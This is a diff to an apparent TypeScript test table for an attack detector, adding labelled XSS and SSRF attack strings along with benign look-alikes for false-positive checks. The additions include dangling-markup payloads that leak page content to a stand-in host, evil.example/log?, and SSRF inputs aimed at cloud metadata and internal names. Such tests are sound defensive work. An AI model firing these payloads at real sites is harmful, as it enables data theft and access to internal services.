@@ -56,7 +56,14 @@ const ATTACKS: Array<[string, AttackClass, Where, string]> = [
     'q',
     '<x xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" ev:handler="test.evt#x"/>',
   ],
+  // xss: dangling markup, a URL attribute left open after a break-out.
+  ['an image URL left open after a break-out', 'xss', 'q', '"><img src=\'//evil.example/log?'],
+  ['a background URL left open after a break-out', 'xss', 'form', "'><table background='https://evil.example/?c="],
   // ssrf: an inside URL in the query of an outside one; reserved and loopback names; a carried parameter.
+  ['a dotted quad with parts over 255', 'ssrf', 'q', 'http://425.510.425.510/'],
+  ['a blank and & before the @ of an authority', 'ssrf', 'q', 'http://1.1.1.1 &@2.2.2.2# @3.3.3.3/'],
+  ['the Rancher metadata name', 'ssrf', 'q', 'http://rancher-metadata/latest'],
+  ['this host by its port', 'ssrf', 'json', '0.0.0.0:8080'],
   ['an outside redirector to the metadata address', 'ssrf', 'q', 'https://evil.example/redirect?to=http://169.254.169.254/'],
   ['an outside URL carrying a scheme-relative loopback URL', 'ssrf', 'json', 'https://www.example.com/?u=//127.0.0.1/'],
   ['a multicast DNS name', 'ssrf', 'q', 'http://printer.local/status'],
@@ -97,12 +104,20 @@ const BENIGN: Array<[string, Where, string]> = [
   ['a button that saves on the same site', 'q', '<button formaction="/save">Go</button>'],
   ['an input pattern for a zip code', 'q', 'use <input pattern="[0-9]{5}"> for zip codes'],
   ['an input pattern for a phone number', 'q', '<input pattern="(\\d{3})-(\\d{4})">'],
+  [
+    'a post cut short inside a link (a CRS false-positive test)',
+    'form',
+    'Here\'s a video: <a href="https://www.youtube.com/watch?v=',
+  ],
+  ['a link cut short without a query', 'q', '<a href="https://example.com/page'],
   // ssrf look-alikes.
   ['a login flow nesting a native app redirect', 'q', 'https://accounts.example/login?next=http://localhost:3000/cb'],
   ['a partner callback nesting our own URL', 'q', 'https://partner.example/cb?return=https://shop.example/'],
   ['a sentence naming a .local site', 'q', 'see http://docs.local for more'],
   ['a carried parameter with an outside URL', 'q', 'next=https://partner.example/'],
   ['the word localhost', 'q', 'localhost'],
+  ['a public address', 'q', 'http://1.2.3.4/'],
+  ['a query holding an address with @', 'q', 'https://shop.example/?a=1&b=x@y.com'],
   // redir look-alikes.
   ['an absolute URL to a partner', 'next', 'https://partner.example/cb'],
   ['an outside URL with our name in its path', 'next', 'https://evil.example/shop.example'],
